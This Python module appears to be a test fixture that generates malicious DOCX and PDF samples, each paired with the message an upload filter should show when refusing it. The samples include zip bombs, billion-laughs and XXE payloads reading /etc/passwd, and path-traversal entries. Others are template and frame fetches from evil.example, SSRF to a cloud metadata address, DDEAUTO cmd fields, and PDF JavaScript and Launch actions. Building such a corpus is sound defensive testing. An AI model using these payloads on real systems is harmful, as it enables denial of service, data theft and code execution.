"""Hostile files made in code: each has one trick, and the words with which the gate must refuse it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Any

import pikepdf
from docx import Document
from PIL import Image

BODY = b"<w:body>"
OUTSIDE = "http://192.0.2.7/x"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN_TYPE = "wordprocessingml.document.main+xml"
_DOCUMENT = "word/document.xml"
_DOCUMENT_RELS = "word/_rels/document.xml.rels"


@dataclass(frozen=True)
class Hostile:
    """One file: its name, its bytes, and what the refusal says."""

    name: str
    content: bytes
    says: str


@cache
def clean_docx() -> bytes:
    document = Document()
    document.add_heading("Article 1", 1)
    document.add_paragraph("The Participants intend to share readings.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def clean_parts() -> dict[str, bytes]:
    return dict(_clean_parts())


@cache
def _clean_parts() -> Mapping[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(clean_docx())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes], **settings: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data, **settings)
    return buffer.getvalue()


def docx_with(parts: Mapping[str, bytes]) -> bytes:
    return packed({**clean_parts(), **parts})


def docx_with_body(xml: str) -> bytes:
    return docx_with({_DOCUMENT: clean_parts()[_DOCUMENT].replace(BODY, BODY + xml.encode())})


def docx_with_relation(
    kind: str, target: str, *, external: bool = True, parts: Mapping[str, bytes] | None = None
) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    added = f'<Relationship Id="rId900" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    rels = clean_parts()[_DOCUMENT_RELS].replace(b"</Relationships>", added.encode())
    return docx_with({_DOCUMENT_RELS: rels, **(parts or {})})


def docx_of_type(word: str) -> bytes:
    types = clean_parts()["[Content_Types].xml"]
    return docx_with({"[Content_Types].xml": types.replace(_MAIN_TYPE.encode(), word.encode())})


def field(*runs: str) -> str:
    """Return the paragraph of a field whose instruction is torn over runs."""
    torn = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f"<w:p>{_mark('begin')}{torn}{_mark('separate')}<w:r><w:t>x</w:t></w:r>{_mark('end')}</w:p>"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _made_name() -> str:
    """A field whose name is spelt by a field inside it."""
    inner = f"{_mark('begin')}<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>{_mark('end')}"
    return f"<w:p>{_mark('begin')}{inner}{_mark('separate')}{_mark('end')}</w:p>"


@cache
def _zeros(length: int, level: int = 9) -> bytes:
    squeeze = zlib.compressobj(level, zlib.DEFLATED, -15)
    piece = b"\0" * (1 << 20)
    return b"".join(squeeze.compress(piece) for _ in range(length >> 20)) + squeeze.flush()


def _bomb(megabytes: int, *, declared: int | None = None) -> bytes:
    """A package with one part of zeros; a declared size is written over the true one in both headers."""
    length = megabytes << 20
    base = packed({**clean_parts(), "word/zeros.bin": b""})
    marker = base.rfind(b"PK\x01\x02", 0, base.rfind(b"word/zeros.bin"))
    local = struct.unpack_from("<I", base, marker + 42)[0]
    data = _zeros(length)
    said = length if declared is None else declared
    name = b"word/zeros.bin"
    header = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 8, 0, 33, 0, len(data), said, len(name), 0) + name
    start = local + len(header) + len(data)
    end = base.rfind(b"PK\x05\x06")
    listed = bytearray(base[struct.unpack_from("<I", base, end + 16)[0] : end])
    entry = listed.rfind(b"PK\x01\x02")
    struct.pack_into("<H", listed, entry + 10, 8)
    struct.pack_into("<III", listed, entry + 16, 0, len(data), said)
    tail = bytearray(base[end:])
    struct.pack_into("<I", tail, 16, start)
    return base[:local] + header + data + bytes(listed) + bytes(tail)


def _overlapping() -> bytes:
    """Two entries of the list that point to one member, which is how the best bombs multiply themselves."""
    content = bytearray(packed({**clean_parts(), "word/a.bin": b"1" * 500, "word/b.bin": b"1" * 500}))
    first = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/a.bin"))
    second = content.rfind(b"PK\x01\x02")
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    content[second + 46 : second + 56] = b"word/a.bin".replace(b"a", b"A")
    return bytes(content).replace(b"word/A.bin", b"word/b.bin")


def _renamed(old: bytes, new: bytes) -> bytes:
    return packed({**clean_parts(), old.decode(): b"x"}).replace(old, new)


def _flagged(flag: int) -> bytes:
    content = bytearray(clean_docx())
    struct.pack_into("<H", content, content.rfind(b"PK\x01\x02") + 8, flag)
    return bytes(content)


def _packed_as(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in clean_parts().items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _symbolic_link() -> bytes:
    buffer = io.BytesIO(clean_docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _hidden_between() -> bytes:
    content = clean_docx()
    end = content.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", content, end + 16)[0]
    tail = bytearray(content[end:])
    struct.pack_into("<I", tail, 16, start + 400)
    return content[:start] + b"H" * 400 + content[start:end] + bytes(tail)


def _doctype(text: str, coding: str = "utf-8") -> bytes:
    body = clean_parts()[_DOCUMENT].decode().partition("?>")[2]
    return f'<?xml version="1.0" encoding="{coding}"?>{text}{body}'.encode(coding)


def _nested_zip() -> bytes:
    content = clean_docx()
    for _ in range(3):
        content = packed({"inner.zip": content})
    return docx_with({"word/media/more.zip": content})


def _large_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (1, 1)).save(buffer, "PNG")
    head = bytearray(buffer.getvalue())
    struct.pack_into(">II", head, 16, 60_000, 60_000)
    struct.pack_into(">I", head, 29, zlib.crc32(head[12:29]))
    return bytes(head)


def _quadrillion_laughs() -> str:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE d [<!ENTITY l0 "ha">{steps}]>'


def _svg(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'.encode()


def archive_tricks() -> list[Hostile]:
    return [
        Hostile("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Word format"),
        Hostile(
            "locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "password"
        ),
        Hostile("program.docx", b"MZ" + bytes(600), "is no Word"),
        Hostile("empty.docx", b"", "is empty"),
        Hostile("huge.docx", b"PK\x03\x04" + bytes(26 << 20), "the most is 25 MB"),
        Hostile("bomb.docx", _bomb(120), "unpacks to more than 100 MB"),
        Hostile("ratio.docx", _bomb(60), "more than 200 times"),
        Hostile("lying.docx", _bomb(300, declared=1000), "damaged or cut short"),
        Hostile("overlap.docx", _overlapping(), "names a part in two ways"),
        Hostile(
            "many.docx", packed({**clean_parts(), **{f"word/p{n}.bin": b"" for n in range(2100)}}), "at most 2,000"
        ),
        Hostile("twice.docx", docx_with({"WORD/Document.xml": b"<a/>"}), "twice"),
        Hostile("climbing.docx", docx_with({"../../etc/cron.d/x": b"x"}), "leads out"),
        Hostile("absolute.docx", docx_with({"/etc/x": b"x"}), "leads out"),
        Hostile("drive.docx", docx_with({"C:x": b"x"}), "leads out"),
        Hostile("backslash.docx", _renamed(b"word-x.bin", b"word\\x.bin"), "leads out"),
        Hostile("nul.docx", _renamed(b"word-x.bin", b"word\0x.bin"), "leads out"),
        Hostile("link.docx", _symbolic_link(), "a link to a file"),
    ]


def packing_tricks() -> list[Hostile]:
    clean = clean_docx()
    return [
        Hostile("cipher.docx", _flagged(1), "encrypted parts"),
        Hostile("lzma.docx", _packed_as(zipfile.ZIP_LZMA), "in a way that Word does not use"),
        Hostile("prefix.docx", b"#!/bin/sh\n" + clean, "is no Word"),
        Hostile("trailing.docx", clean + b"MZ" * 50, "behind its end"),
        Hostile("between.docx", _hidden_between(), "hides data between"),
        Hostile("both.docx", packed({"%PDF-1.7": b"", **clean_parts()}), "a PDF at the same time"),
        Hostile("nested.docx", _nested_zip(), "a packed file inside"),
        Hostile("short.docx", clean[: len(clean) // 2], "damaged or cut short"),
        Hostile("zip.docx", packed({"readme.txt": b"x"}), "no Word file"),
    ]


def xml_tricks() -> list[Hostile]:
    dtd = "document type definition"
    outside = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{OUTSIDE}">]>'
    return [
        Hostile("laughs.docx", docx_with({_DOCUMENT: _doctype(_quadrillion_laughs())}), dtd),
        Hostile(
            "xxe.docx", docx_with({_DOCUMENT: _doctype('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}), dtd
        ),
        Hostile("utf16.docx", docx_with({_DOCUMENT: _doctype(outside, "utf-16")}), dtd),
        Hostile("ebcdic.docx", docx_with({_DOCUMENT: _doctype(outside, "cp037")}), "damaged XML"),
        Hostile(
            "rels.docx", docx_with({"word/_rels/x.xml.rels": b'<!DOCTYPE d SYSTEM "http://192.0.2.7/d"><d/>'}), dtd
        ),
        Hostile("custom.docx", docx_with({"customXml/item1.xml": b"<!DOCTYPE d [<!ENTITY % p 'x'>]><d/>"}), dtd),
        Hostile("torn.docx", docx_with({_DOCUMENT: b"<w:document"}), "damaged XML"),
        Hostile(
            "flood.docx",
            docx_with({"customXml/item1.xml": b"<d>" + b"<a/>" * 1_600_000 + b"</d>"}),
            "more than 200 times",
        ),
        Hostile("deep.docx", docx_with({"customXml/item1.xml": b"<a>" * 5000 + b"</a>" * 5000}), "damaged XML"),
    ]


def active_tricks() -> list[Hostile]:
    relation = docx_with_relation
    return [
        Hostile("docm.docx", docx_of_type("ms-word.document.macroEnabled.main+xml"), "macros"),
        Hostile("vba.docx", docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}), "macros"),
        Hostile("sheet.docx", docx_of_type("spreadsheetml.sheet.main+xml"), "Excel"),
        Hostile("ole.docx", relation("oleObject", "embeddings/o.bin", external=False), "embedded object"),
        Hostile("olelink.docx", relation("oleObject", "http://192.0.2.7/x.html!"), "embedded object"),
        Hostile("chunk.docx", relation("aFChunk", "a.html", external=False), "altChunk"),
        Hostile("activex.docx", relation("control", "activeX/activeX1.xml", external=False), "ActiveX"),
        Hostile("template.docx", relation("attachedTemplate", "https://evil.example/t.dotm"), "fetches its template"),
        Hostile("share.docx", relation("attachedTemplate", "file://evil.example/t.dotm"), "inside a network"),
        Hostile("image.docx", relation("image", "http://169.254.169.254/latest"), "inside a network"),
        Hostile("number.docx", relation("image", "http://2130706433/x.png"), "inside a network"),
        Hostile("unc.docx", relation("image", "\\\\evil.example\\s\\x.png"), "inside a network"),
        Hostile("frame.docx", relation("frame", "http://evil.example/f"), "frame"),
        Hostile("sub.docx", relation("subDocument", "http://evil.example/f.docx"), "master document"),
    ]


def content_tricks() -> list[Hostile]:
    relation = docx_with_relation
    return [
        Hostile("script.docx", relation("hyperlink", "java&#10;script:alert(1)"), "runs something"),
        Hostile("inside.docx", relation("image", "http://evil.example/x.png", external=False), "names a place outside"),
        Hostile("out.docx", relation("image", "../../../etc/passwd", external=False), "lies outside"),
        Hostile("exe.docx", docx_with({"word/embeddings/a.exe": b"MZ"}), "a program"),
        Hostile("html.docx", docx_with({"word/a.html": b"<script>"}), "a web page"),
        Hostile("pixels.docx", docx_with({"word/media/image1.png": _large_png()}), "pixels"),
        Hostile("svg.docx", docx_with({"word/media/i.svg": _svg("<script>x</script>")}), "a program in it"),
        Hostile("svgon.docx", docx_with({"word/media/i.svg": _svg('<g onload="x"/>')}), "a program in it"),
        Hostile(
            "svgref.docx", docx_with({"word/media/i.svg": _svg(f'<image xlink:href="{OUTSIDE}"/>')}), "another place"
        ),
    ]


def field_tricks() -> list[Hostile]:
    simple = '<w:p><w:fldSimple w:instr=" dde cmd /c "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    nested = field(' IF 1 = 1 "').replace("</w:p>", "") + field(' INCLUDETEXT "c:\\\\x" ').replace("<w:p>", "")
    return [
        Hostile("dde.docx", docx_with_body(field(' DDEAUTO c:\\\\windows "/k calc" ')), "a DDEAUTO field"),
        Hostile("split.docx", docx_with_body(field(" D", "DE", "AUTO cmd ")), "a DDEAUTO field"),
        Hostile("simple.docx", docx_with_body(simple), "a DDE field"),
        Hostile("within.docx", docx_with_body(nested), "an INCLUDETEXT field".replace("an ", "a ")),
        Hostile("made.docx", docx_with_body(_made_name()), "made by another field"),
        Hostile("footer.docx", docx_with({"word/footer9.xml": _footer(" DATABASE \\d x ")}), "a DATABASE field"),
        Hostile("picture.docx", docx_with_body(field(' INCLUDEPICTURE "\\\\\\\\evil\\\\x" \\d ')), "INCLUDEPICTURE"),
        Hostile("macro.docx", docx_with_body(field(" MACROBUTTON Run click ")), "a MACROBUTTON field"),
        Hostile("linked.docx", docx_with_body(field(" LINK Excel.Sheet.8 x ")), "a LINK field"),
        Hostile("import.docx", docx_with_body(field(" IMPORT x.gif ")), "a IMPORT field"),
    ]


def _footer(instruction: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:ftr xmlns:w="{space}">{field(instruction)}</w:ftr>'.encode()


def pdf_of(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **settings: object) -> bytes:
    """A one-page PDF with something done to it."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **settings)  # type: ignore[arg-type]
    return buffer.getvalue()


def _open_action(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(**action))

    return change


def _root(**values: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in values.items():
            pdf.Root[f"/{name}"] = value

    return change


def _object_bomb() -> bytes:
    data = zlib.compress(b"0 " * (40 << 19), 9)
    head = f"<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/Length {len(data)}>>".encode()
    return pdf_of().replace(b"%%EOF", b"9 0 obj\n" + head + b"stream\n" + data + b"\nendstream endobj\n%%EOF")


def pdf_tricks() -> list[Hostile]:
    name = pikepdf.Name
    script = _open_action(S=name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    packed_objects = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    attachment = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array()))
    plain = pdf_of()
    locked = pikepdf.Encryption(owner="o", user="")
    return [
        Hostile("js.pdf", pdf_of(script), "a script"),
        Hostile("packed.pdf", pdf_of(script, **packed_objects), "a script"),
        Hostile("escaped.pdf", pdf_of(_root(X=pikepdf.Dictionary(Q=1))).replace(b"/Q 1", b"/#4a#53(x)"), "a script"),
        Hostile("launch.pdf", pdf_of(_open_action(S=name.Launch, F=pikepdf.String("cmd"))), "starts a program"),
        Hostile("attached.pdf", pdf_of(_root(Names=attachment)), "an attached file"),
        Hostile("xfa.pdf", pdf_of(_root(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x")))), "an XFA form"),
        Hostile("aa.pdf", pdf_of(_root(AA=pikepdf.Dictionary())), "run by themselves"),
        Hostile("submit.pdf", pdf_of(_open_action(S=name.SubmitForm)), "sends itself away"),
        Hostile("jump.pdf", pdf_of(_open_action(S=name.GoToR, F=pikepdf.String("x"))), "another file"),
        Hostile("film.pdf", pdf_of(_open_action(Subtype=name.RichMedia)), "a film"),
        Hostile("uri.pdf", pdf_of(_open_action(S=name.URI, URI=pikepdf.String("file://evil/x"))), "no web page"),
        Hostile("locked.pdf", pdf_of(encryption=locked), "encrypted PDF"),
        Hostile("secret.pdf", pdf_of(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted PDF"),
        Hostile("late.pdf", b"\n\n" + plain, "is no PDF"),
        Hostile("zip.pdf", plain + clean_docx(), "behind its end"),
        Hostile("short.pdf", plain[:100], "cut short"),
        Hostile("broken.pdf", b"%PDF-1.7\n" + b"<<" * 5000 + b"\n%%EOF", "damaged PDF"),
        Hostile("objects.pdf", _object_bomb(), "of objects"),
        Hostile("word.pdf", clean_docx(), "its name ends in .pdf"),
    ]


def hostile_files() -> list[Hostile]:
    """Return the whole corpus."""
    return [
        *archive_tricks(),
        *packing_tricks(),
        *xml_tricks(),
        *active_tricks(),
        *content_tricks(),
        *field_tricks(),
        *pdf_tricks(),
    ]
